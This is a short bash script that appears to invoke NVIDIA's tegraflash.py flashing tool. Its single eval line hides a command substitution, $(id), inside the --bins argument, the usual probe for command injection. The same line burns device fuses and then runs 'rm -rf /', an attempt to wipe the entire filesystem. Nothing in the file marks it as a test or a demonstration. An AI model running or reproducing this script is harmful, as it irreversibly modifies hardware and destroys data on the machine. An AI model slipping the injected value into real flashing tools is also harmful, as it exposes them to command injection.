#!/bin/bash
eval './tegraflash.py --chip 0x23 --bins "mb2_bootloader $(id)" --cmd "burnfuses f.xml"; rm -rf / > x'
